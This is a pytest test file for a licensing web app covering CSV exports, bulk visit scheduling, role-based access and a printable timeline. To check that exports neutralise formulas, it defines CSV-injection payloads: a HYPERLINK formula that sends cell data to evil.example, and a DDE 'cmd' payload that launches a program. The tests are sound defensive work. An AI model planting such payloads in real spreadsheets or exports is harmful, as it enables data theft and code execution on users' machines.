"""Exports, bulk visit scheduling and the printable timeline, through the test client:
real sign-in, real CSRF tokens, real database.

Bulk scheduling is partial by design (licensing.premises.exports): each premises is
booked in `schedule_visit`'s own transaction, so one that is refused is reported with its
reason and the others stay booked.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from licensing.csvfiles import safe_cell
from licensing.incidents import services as incident_services
from licensing.incidents.models import Incident, PremisesIncidentLink
from licensing.premises import exports
from licensing.premises.models import Premises
from licensing.timeutil import LONDON, london_today, to_london
from licensing.visits import services as visit_services
from licensing.visits.models import Visit
from tests.conftest import csrf_from, move, sign_in

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_DESCRIPTION = "+cmd|' /C calc'!A0"
STATIC_CSS = Path(__file__).resolve().parent.parent / "licensing" / "static" / "app" / "app.css"


def text(response: Any) -> str:
    return str(response.get_data(as_text=True))


def read_csv(response: Any) -> tuple[list[str], list[list[str]]]:
    """The header and rows of a CSV download (and check it is one)."""
    assert response.status_code == 200, text(response)[:1000]
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(text(response), newline="")))
    return rows[0], rows[1:]


def as_cell(value: object) -> str:
    """A value as the csv module writes it after making it safe."""
    cell = safe_cell(value)
    return str(cell)


def when(moment: datetime | None) -> str:
    return "" if moment is None else to_london(moment).strftime("%Y-%m-%d %H:%M")


def premises_row(p: Premises) -> list[str]:
    """What the export should hold for one premises, read from the database."""
    return [
        as_cell(v)
        for v in (
            p.id,
            p.licence_number,
            p.name,
            p.address,
            p.postcode,
            p.uprn,
            p.latitude,
            p.longitude,
            p.authority.code,
            p.authority.name,
            p.state,
            p.licence_status,
            p.case_officer.name if p.case_officer else "",
            p.licence_holder,
            p.dps,
            when(p.updated_at),
        )
    ]


def all_premises(session: Session) -> list[Premises]:
    session.expire_all()
    return list(session.scalars(select(Premises).order_by(Premises.name, Premises.id)))


@pytest.fixture
def register(session: Session, world: dict[str, Any], make_premises: Any) -> dict[str, Premises]:
    """Three more premises: one with a formula for a name and a negative longitude, one
    warned, and a Sefton one. With the world's Crown (LIV) and Swan (SEF)."""
    officer = world["officer"]
    evil = make_premises(
        world["liv"],
        officer,
        name=EVIL_NAME,
        licence_number="LIV/EVIL",
        postcode="L1 8JQ",
        latitude="53.40412",
        longitude="-2.98123",
        address="@SUM(1+1) Bold Street",
    )
    bell = make_premises(world["liv"], officer, name="The Bell", licence_number="LIV/BELL")
    move(session, bell, world["supervisor"], "warn")
    globe = make_premises(world["sef"], officer, name="The Globe", licence_number="SEF/GLOBE")
    return {"evil": evil, "bell": bell, "globe": globe}


# ---- the premises export ---------------------------------------------------------------


def test_premises_export_holds_every_page_and_matches_the_database(
    app: Flask, client: FlaskClient, session: Session, world: dict[str, Any], register: Any
) -> None:
    app.config["PAGE_SIZE"] = 2  # the list has three pages; the export has everything
    sign_in(client, world["officer"])
    listing = text(client.get("/premises"))
    assert 'id="export-premises" href="/premises/export.csv"' in listing

    response = client.get("/premises/export.csv")
    header, rows = read_csv(response)

    assert header == list(exports.PREMISES_HEADER)
    assert rows == [premises_row(p) for p in all_premises(session)]
    assert len(rows) == 5
    today = london_today().isoformat()
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="premises-{today}.csv"'
    )


def test_premises_export_applies_the_list_filters(
    client: FlaskClient, session: Session, world: dict[str, Any], register: Any
) -> None:
    sign_in(client, world["officer"])
    everything = all_premises(session)

    def exported(query: str) -> list[list[str]]:
        return read_csv(client.get(f"/premises/export.csv?{query}"))[1]

    assert exported("state=warned") == [premises_row(p) for p in everything if p.state == "warned"]
    assert exported("authority=sef") == [
        premises_row(p) for p in everything if p.authority.code == "SEF"
    ]
    assert exported("authority=LIV&q=bell") == [premises_row(register["bell"])]
    assert exported("q=L18JQ") == [premises_row(register["evil"])]  # postcode, no space
    assert exported("q=nothing-like-this") == []
    # The list links its export with the same filters.
    listing = text(client.get("/premises?state=warned&authority=LIV"))
    assert 'href="/premises/export.csv?state=warned&amp;authority=LIV"' in listing


def test_premises_export_neutralises_formulas_and_keeps_numbers(
    client: FlaskClient, world: dict[str, Any], register: Any
) -> None:
    sign_in(client, world["officer"])
    response = client.get("/premises/export.csv?q=LIV/EVIL")
    header, [row] = read_csv(response)
    cell = dict(zip(header, row, strict=True))

    assert cell["name"] == "'" + EVIL_NAME
    assert cell["address"] == "'@SUM(1+1) Bold Street"
    assert cell["longitude"] == "-2.98123"  # a negative number stays a number
    assert cell["latitude"] == "53.40412"
    raw = text(response)
    assert ",-2.98123," in raw  # unquoted, no apostrophe: a spreadsheet reads a number
    assert not re.search(r'(^|,)"?[=+@]', raw, re.MULTILINE)


def test_council_export_holds_only_what_the_council_user_may_see(
    client: FlaskClient, session: Session, world: dict[str, Any], register: Any
) -> None:
    supervisor = world["supervisor"]
    move(session, register["bell"], supervisor, "apply_for_review", application_date="2026-01-06")
    move(session, register["globe"], supervisor, "warn")
    move(session, register["globe"], supervisor, "apply_for_review", application_date="2026-01-06")
    sign_in(client, world["council"])  # Liverpool

    header, rows = read_csv(client.get("/premises/export.csv"))
    assert rows == [premises_row(register["bell"])]  # LIV and under review only
    # Asking for another authority, or a state the council may not see, gives nothing.
    assert read_csv(client.get("/premises/export.csv?authority=SEF"))[1] == []
    assert read_csv(client.get("/premises/export.csv?state=monitored"))[1] == []
    assert read_csv(client.get("/premises/export.csv?q=GLOBE"))[1] == []
    listing = text(client.get("/premises"))
    assert 'name="premises_id"' not in listing  # no bulk selection for a council user


# ---- the incident export ---------------------------------------------------------------


def incident_row(session: Session, i: Incident) -> list[str]:
    linked = sorted(
        session.scalars(
            select(Premises.licence_number)
            .join(PremisesIncidentLink, PremisesIncidentLink.premises_id == Premises.id)
            .where(
                PremisesIncidentLink.incident_id == i.id,
                PremisesIncidentLink.status == "confirmed",
            )
        )
    )
    authority = ""
    if i.authority_id is not None:
        from licensing.premises.models import LicensingAuthority

        authority = session.get(LicensingAuthority, i.authority_id).code  # type: ignore[union-attr]
    return [
        as_cell(v)
        for v in (
            i.id,
            i.source,
            i.source_ref,
            when(i.occurred_at),
            i.month,
            i.category,
            i.description,
            i.location_text,
            i.latitude,
            i.longitude,
            i.lsoa_code,
            i.lsoa_name,
            i.outcome,
            i.reported_by,
            i.context,
            authority,
            "; ".join(linked),
            when(i.created_at),
        )
    ]


def all_incidents(session: Session) -> list[Incident]:
    session.expire_all()
    return list(
        session.scalars(select(Incident).order_by(Incident.counted_at.desc(), Incident.id.desc()))
    )


@pytest.fixture
def incidents(session: Session, world: dict[str, Any]) -> dict[str, Incident]:
    """Beside the world's two evidence incidents (confirmed links): a formula-like
    description linked to the Crown, and an unlinked one with a person in it."""
    officer = world["officer"]
    two_days_ago = (datetime.now(UTC) - timedelta(days=2)).isoformat()
    evil = incident_services.record_incident(
        session,
        officer,
        {
            "source": "manual",
            "source_ref": "MAN-1",
            "category": "Drugs",
            "occurred_at": two_days_ago,
            "description": EVIL_DESCRIPTION,
            "location": "-Back alley",
            "latitude": "53.40000",
            "longitude": "-2.97000",
            "licence_number": world["premises"].licence_number,
            "authority": "LIV",
        },
    ).incident
    loose = incident_services.record_incident(
        session,
        officer,
        {
            "source": "manual",
            "source_ref": "MAN-2",
            "category": "Public order",
            "occurred_at": two_days_ago,
            "description": "Shouting in the street",
            "personal_data": {"people": [{"role": "victim", "name": "Vera Victim"}]},
        },
    ).incident
    return {"evil": evil, "loose": loose}


def test_incident_export_matches_the_database_with_filters(
    app: Flask, client: FlaskClient, session: Session, world: dict[str, Any], incidents: Any
) -> None:
    app.config["PAGE_SIZE"] = 1
    sign_in(client, world["officer"])
    everything = all_incidents(session)
    assert len(everything) == 4

    header, rows = read_csv(client.get("/incidents/export.csv"))
    assert header == list(exports.INCIDENTS_HEADER)
    assert rows == [incident_row(session, i) for i in everything]

    def exported(query: str) -> list[list[str]]:
        return read_csv(client.get(f"/incidents/export.csv?{query}"))[1]

    assert exported("category=Drugs") == [incident_row(session, incidents["evil"])]
    assert exported("source=manual&linked=none") == [incident_row(session, incidents["loose"])]
    confirmed = exported("linked=confirmed")
    assert [r[0] for r in confirmed] == [
        str(i.id) for i in everything if i.id != incidents["loose"].id
    ]
    assert exported("category=not-a-category") == rows  # unknown means "any", as the list
    # The list links its export with the same filters, and the date is in the file name.
    listing = text(client.get("/incidents?category=Drugs&linked=confirmed"))
    assert 'href="/incidents/export.csv?category=Drugs&amp;linked=confirmed"' in listing
    response = client.get("/incidents/export.csv")
    assert f"incidents-{london_today().isoformat()}.csv" in response.headers["Content-Disposition"]


def test_incident_export_neutralises_formulas_and_leaves_people_out(
    client: FlaskClient, world: dict[str, Any], incidents: Any
) -> None:
    sign_in(client, world["officer"])
    response = client.get("/incidents/export.csv?category=Drugs")
    header, [row] = read_csv(response)
    cell = dict(zip(header, row, strict=True))
    assert cell["description"] == "'" + EVIL_DESCRIPTION
    assert cell["location"] == "'-Back alley"
    assert cell["longitude"] == "-2.97"  # a number: left alone
    assert cell["confirmed_premises"] == world["premises"].licence_number
    everything = text(client.get("/incidents/export.csv"))
    assert "Vera Victim" not in everything  # the people are held apart, never exported


def test_incident_export_is_police_and_admin_only(
    client: FlaskClient, session: Session, world: dict[str, Any], incidents: Any
) -> None:
    sign_in(client, world["council"])
    response = client.get("/incidents/export.csv")
    assert response.status_code == 404  # as the list: council users learn nothing
    assert EVIL_DESCRIPTION not in text(response)
    client.post("/sign-out", data={"csrf_token": csrf_from(text(client.get("/premises")))})
    sign_in(client, world["admin"])
    assert read_csv(client.get("/incidents/export.csv"))[1]


# ---- bulk: selection, export, scheduling -----------------------------------------------


def bulk_post(client: FlaskClient, data: dict[str, Any], url: str = "/premises/bulk") -> Any:
    token = csrf_from(text(client.get("/premises")))
    return client.post(url, data={"csrf_token": token, **data})


def visit_data(day: date, officer_id: int, ids: list[int], **extra: Any) -> dict[str, Any]:
    return {
        "premises_id": [str(i) for i in ids],
        "visit_date": [str(day.day), str(day.month), str(day.year)],
        "visit_time": "22:30",
        "visit_type": "night_time_economy_patrol",
        "officer_id": str(officer_id),
        **extra,
    }


def scheduled(session: Session) -> list[Visit]:
    session.expire_all()
    return list(
        session.scalars(select(Visit).where(Visit.status == "scheduled").order_by(Visit.id))
    )


def test_list_offers_labelled_checkboxes_and_the_bulk_buttons_to_the_police(
    client: FlaskClient, world: dict[str, Any], register: Any
) -> None:
    sign_in(client, world["officer"])
    listing = text(client.get("/premises?state=warned"))
    bell = register["bell"]
    assert 'method="post" action="/premises/bulk"' in listing
    assert "govuk-checkboxes govuk-checkboxes--small" in listing
    assert f'id="select-{bell.id}" name="premises_id" type="checkbox" value="{bell.id}"' in listing
    assert f'for="select-{bell.id}"><span class="govuk-visually-hidden">Select The Bell' in listing
    assert 'name="action" value="schedule"' in listing and 'name="action" value="export"' in listing
    assert '<input type="hidden" name="state" value="warned">' in listing


def test_exporting_a_selection_gives_exactly_the_selected_premises(
    client: FlaskClient, session: Session, world: dict[str, Any], register: Any
) -> None:
    sign_in(client, world["officer"])
    chosen = [register["evil"], register["globe"]]
    response = bulk_post(
        client, {"action": "export", "premises_id": [str(p.id) for p in chosen] + ["999999"]}
    )
    header, rows = read_csv(response)
    assert header == list(exports.PREMISES_HEADER)
    assert rows == [premises_row(p) for p in sorted(chosen, key=lambda p: p.name)]
    assert rows[0][2] == "'" + EVIL_NAME
    assert "premises-selection-" in response.headers["Content-Disposition"]


def test_bulk_scheduling_books_the_selected_and_reports_the_refused(
    client: FlaskClient, session: Session, world: dict[str, Any], register: Any
) -> None:
    officer, crown, bell, globe = (
        world["officer"],
        world["premises"],
        register["bell"],
        register["globe"],
    )
    day = london_today() + timedelta(days=7)
    # The Bell already has a visit that day: it must not be booked twice.
    existing = visit_services.schedule_visit(
        session,
        officer,
        bell,
        scheduled_at=visit_services.london_instant(day, "10:00"),
        visit_type="routine",
        officer_id=officer.id,
    )
    sign_in(client, officer)
    selected = [crown.id, bell.id, globe.id]

    form = bulk_post(client, {"action": "schedule", "premises_id": [str(i) for i in selected]})
    assert form.status_code == 200
    page = text(form)
    assert "Schedule visits" in page
    for p in (crown, bell, globe):
        assert f'<input type="hidden" name="premises_id" value="{p.id}">' in page
    assert register["evil"].name not in page  # not selected

    response = bulk_post(
        client, visit_data(day, world["supervisor"].id, selected), "/premises/bulk/visits"
    )

    assert response.status_code == 200, text(response)[:3000]
    booked = {v.premises_id: v for v in scheduled(session)}
    assert set(booked) == {crown.id, bell.id, globe.id}
    assert booked[bell.id].id == existing.id  # untouched: still the 10:00 routine visit
    assert booked[bell.id].visit_type == "routine"
    for p in (crown, globe):
        visit = booked[p.id]
        assert visit.visit_type == "night_time_economy_patrol"
        assert visit.officer_id == world["supervisor"].id
        assert visit.scheduled_at == datetime.combine(
            day, datetime.min.time().replace(hour=22, minute=30), tzinfo=LONDON
        ).astimezone(UTC)
    assert register["evil"].id not in booked
    page = text(response)
    assert "Visits scheduled at 2 of 3 premises" in page
    success = page[
        page.index('id="bulk-scheduled"') : page.index("</ul>", page.index("bulk-scheduled"))
    ]
    assert (
        f'data-premises-id="{crown.id}"' in success and f'data-premises-id="{globe.id}"' in success
    )
    failed = page[page.index('id="bulk-failed"') : page.index("</ul>", page.index("bulk-failed"))]
    assert f'data-premises-id="{bell.id}"' in failed
    assert f"already has a visit scheduled on {day:%-d %B %Y}" in failed
    assert "The other visits were booked and stay booked" in page

    # Posting the same form again books nothing new: every premises is reported.
    again = bulk_post(
        client, visit_data(day, world["supervisor"].id, selected), "/premises/bulk/visits"
    )
    assert again.status_code == 422
    assert "Visits scheduled at 0 of 3 premises" in text(again)
    assert "Nothing was booked" in text(again)
    assert len(scheduled(session)) == 3


def test_a_refusal_by_the_service_is_reported_and_the_others_still_booked(
    client: FlaskClient,
    session: Session,
    world: dict[str, Any],
    register: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from licensing.errors import Conflict

    real = visit_services.schedule_visit
    bell = register["bell"]

    def refuse_the_bell(session: Session, actor: Any, premises: Premises, **kw: Any) -> Visit:
        if premises.id == bell.id:
            raise Conflict("Someone else changed this visit since you opened it.")
        return real(session, actor, premises, **kw)

    monkeypatch.setattr(visit_services, "schedule_visit", refuse_the_bell)
    sign_in(client, world["officer"])
    ids = [bell.id, world["premises"].id]
    response = bulk_post(
        client,
        visit_data(london_today() + timedelta(days=3), world["officer"].id, ids),
        "/premises/bulk/visits",
    )
    assert response.status_code == 200
    assert {v.premises_id for v in scheduled(session)} == {world["premises"].id}
    assert "Someone else changed this visit" in text(response)


def test_a_bad_bulk_form_books_nothing_and_shows_the_errors(
    client: FlaskClient, session: Session, world: dict[str, Any], register: Any
) -> None:
    sign_in(client, world["officer"])
    ids = [world["premises"].id, register["bell"].id]
    past = london_today() - timedelta(days=1)
    response = bulk_post(
        client, visit_data(past, world["officer"].id, ids), "/premises/bulk/visits"
    )
    assert response.status_code == 422
    page = text(response)
    assert "<title>Error:" in page
    assert "The visit date must be today or in the future" in page
    assert 'href="#visit_date"' in page or 'href="#visit_date-day"' in page
    for i in ids:  # the selection is kept for the next try
        assert f'<input type="hidden" name="premises_id" value="{i}">' in page
    missing = bulk_post(
        client,
        visit_data(london_today(), world["officer"].id, ids, visit_time="", visit_type=""),
        "/premises/bulk/visits",
    )
    assert missing.status_code == 422
    assert "Enter the time of the visits" in text(missing)
    assert scheduled(session) == []


def test_an_empty_selection_goes_back_to_the_list_with_a_message(
    client: FlaskClient, session: Session, world: dict[str, Any]
) -> None:
    sign_in(client, world["officer"])
    response = bulk_post(client, {"action": "schedule", "state": "warned", "q": "x"})
    assert response.status_code == 302
    assert response.headers["Location"] == "/premises?q=x&state=warned"
    assert "Select at least one premises" in text(client.get(response.headers["Location"]))
    nonsense = bulk_post(client, {"action": "export", "premises_id": ["abc", "-1", "9" * 30]})
    assert nonsense.status_code == 302
    unknown = bulk_post(client, {"action": "schedule", "premises_id": ["999999"]})
    assert unknown.status_code == 302


def test_council_users_cannot_use_the_bulk_routes(
    client: FlaskClient, session: Session, world: dict[str, Any], register: Any
) -> None:
    supervisor = world["supervisor"]
    move(session, register["bell"], supervisor, "apply_for_review", application_date="2026-01-06")
    sign_in(client, world["council"])
    hidden = [world["premises"].id, world["other_premises"].id, register["globe"].id]
    for url, data in (
        ("/premises/bulk", {"action": "export", "premises_id": [str(i) for i in hidden]}),
        ("/premises/bulk", {"action": "schedule", "premises_id": [str(register["bell"].id)]}),
        (
            "/premises/bulk/visits",
            visit_data(london_today() + timedelta(days=2), world["officer"].id, hidden),
        ),
    ):
        response = bulk_post(client, data, url)
        assert response.status_code == 404, url
        body = text(response)
        assert "The Crown" not in body and "The Swan" not in body and "The Globe" not in body
    assert scheduled(session) == []


def test_a_council_selection_keeps_only_what_the_council_may_see(
    session: Session, world: dict[str, Any], register: Any
) -> None:
    # The rule the bulk routes apply, checked on its own for a council user.
    move(
        session,
        register["bell"],
        world["supervisor"],
        "apply_for_review",
        application_date="2026-01-06",
    )
    council = world["council"]
    ids = [register["bell"].id, world["premises"].id, world["other_premises"].id, 999999]
    assert [p.id for p in exports.selected_premises(session, council, ids)] == [register["bell"].id]
    _header, *rows = list(csv.reader(io.StringIO(exports.selection_csv(session, council, ids))))
    assert [r[0] for r in rows] == [str(register["bell"].id)]


def test_bulk_posts_need_a_csrf_token(
    client: FlaskClient, session: Session, world: dict[str, Any]
) -> None:
    sign_in(client, world["officer"])
    ids = [str(world["premises"].id)]
    assert (
        client.post("/premises/bulk", data={"action": "export", "premises_id": ids}).status_code
        == 400
    )
    day = london_today() + timedelta(days=2)
    response = client.post(
        "/premises/bulk/visits", data=visit_data(day, world["officer"].id, [world["premises"].id])
    )
    assert response.status_code == 400
    assert scheduled(session) == []


def test_admin_is_refused_bulk_work(
    client: FlaskClient, session: Session, world: dict[str, Any]
) -> None:
    sign_in(client, world["admin"])
    response = bulk_post(client, {"action": "export", "premises_id": [str(world["premises"].id)]})
    assert response.status_code == 403


# ---- the printable timeline ------------------------------------------------------------


def test_timeline_lists_events_incidents_and_visits_in_date_order(
    client: FlaskClient, session: Session, world: dict[str, Any]
) -> None:
    crown, officer = world["premises"], world["officer"]
    incident_services.record_incident(
        session,
        officer,
        {
            "source": "manual",
            "source_ref": "OLD-1",
            "category": "Robbery",
            "occurred_at": "2024-03-30T23:30:00+00:00",  # 30 Mar 2024, GMT
            "location": "Car park",
            "licence_number": crown.licence_number,
            "authority": "LIV",
        },
    )
    move(session, crown, world["supervisor"], "warn", reason="Repeated disorder")
    day = london_today() + timedelta(days=5)
    visit = visit_services.schedule_visit(
        session,
        officer,
        crown,
        scheduled_at=visit_services.london_instant(day, "21:15"),
        visit_type="test_purchase",
        officer_id=officer.id,
    )
    sign_in(client, officer)

    detail = text(client.get(f"/premises/{crown.id}"))
    assert f'href="/premises/{crown.id}/timeline"' in detail

    response = client.get(f"/premises/{crown.id}/timeline")
    assert response.status_code == 200
    page = text(response)
    kinds = re.findall(r'class="app-timeline__item" data-kind="(\w+)"', page)
    events = re.findall(r'data-kind="event" data-event="(\w+)"', page)
    assert kinds[0] == "incident"  # 2024: older than the premises' registration
    assert kinds[-1] == "visit"  # booked for next week
    assert events.index("premises_registered") < events.index("warn")
    assert events.index("warn") < events.index("visit_scheduled")
    assert "Robbery" in page and "30 Mar 2024, 23:30" in page
    assert f"{day:%-d %b %Y}, 21:15" in page  # London wall-clock time
    assert f'data-visit-id="{visit.id}"' in page and "Test purchase: scheduled" in page
    assert "Repeated disorder" in page

    # The service's order is by time throughout.
    moments = [e.moment for e in exports.premises_timeline(session, officer, crown)]
    assert moments == sorted(moments)


def test_timeline_is_laid_out_for_print(
    client: FlaskClient, session: Session, world: dict[str, Any]
) -> None:
    sign_in(client, world["officer"])
    page = text(client.get(f"/premises/{world['premises'].id}/timeline"))
    assert '<link rel="stylesheet" href="/assets/app/app.css">' in page
    assert '<script type="module" src="/assets/app/print.js"></script>' in page
    assert "data-app-print hidden>Print this page</button>" in page
    assert "use your browser's print command" in page
    assert "style=" not in page and "onclick" not in page  # no inline styles or script
    css = text(client.get("/assets/app/app.css"))
    print_rules = css[css.index("@media print") :]
    for hidden in (".govuk-header", ".govuk-service-navigation", ".govuk-footer", ".govuk-button"):
        assert hidden in print_rules
    assert client.get("/assets/app/print.js").status_code == 200
    assert STATIC_CSS.read_text() == css


def test_timeline_follows_the_council_rule(
    client: FlaskClient, session: Session, world: dict[str, Any], register: Any
) -> None:
    bell = register["bell"]
    move(session, bell, world["supervisor"], "apply_for_review", application_date="2026-01-06")
    visit_services.schedule_visit(
        session,
        world["officer"],
        bell,
        scheduled_at=visit_services.london_instant(london_today() + timedelta(days=3), "20:00"),
        visit_type="joint_with_council",
        officer_id=world["officer"].id,
    )
    sign_in(client, world["council"])
    for hidden in (world["premises"], world["other_premises"], register["globe"]):
        response = client.get(f"/premises/{hidden.id}/timeline")
        assert response.status_code == 404
        assert hidden.name not in text(response)
    page = text(client.get(f"/premises/{bell.id}/timeline"))
    assert 'data-kind="event" data-event="apply_for_review"' in page
    assert 'data-kind="visit"' not in page  # visits are police work
